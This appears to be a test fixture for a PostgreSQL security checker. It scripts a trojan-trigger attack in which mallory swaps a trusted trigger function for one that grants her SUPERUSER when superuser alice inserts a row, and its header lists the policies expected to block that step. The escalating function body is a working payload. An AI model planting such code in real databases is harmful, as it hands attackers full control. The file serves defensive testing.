/*---
title: Trigger function replaced after the victim reviewed it
pattern: Trojan trigger whose function is swapped with CREATE OR REPLACE (CVE-2020-25695 family)
description: >
  mallory owns a shared events table whose BEFORE INSERT trigger calls a harmless function.
  alice, a superuser, reviews it and logs an event: nothing happens. mallory then replaces
  the trigger function with CREATE OR REPLACE; the trigger itself is unchanged. alice's
  next insert, in the same session, runs the new body with her rights. The recording shows
  mallory's function in both chains.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: stamp_event on mallory.events, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE TABLE mallory.events (id serial PRIMARY KEY, kind text NOT NULL, seen_at timestamptz);
GRANT INSERT ON mallory.events TO PUBLIC;
GRANT USAGE ON SEQUENCE mallory.events_id_seq TO PUBLIC;
CREATE FUNCTION mallory.stamp_event() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  NEW.seen_at := now();
  RETURN NEW;
END $$;
CREATE TRIGGER stamp_event BEFORE INSERT ON mallory.events
  FOR EACH ROW EXECUTE FUNCTION mallory.stamp_event();
RESET ROLE;

-- @step alice
SELECT prosrc FROM pg_proc WHERE oid = 'mallory.stamp_event()'::regprocedure;
INSERT INTO mallory.events (kind) VALUES ('deploy');

-- @step mallory
CREATE OR REPLACE FUNCTION mallory.stamp_event() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  NEW.seen_at := now();
  RETURN NEW;
END $$;

-- @step alice
INSERT INTO mallory.events (kind) VALUES ('rollback');
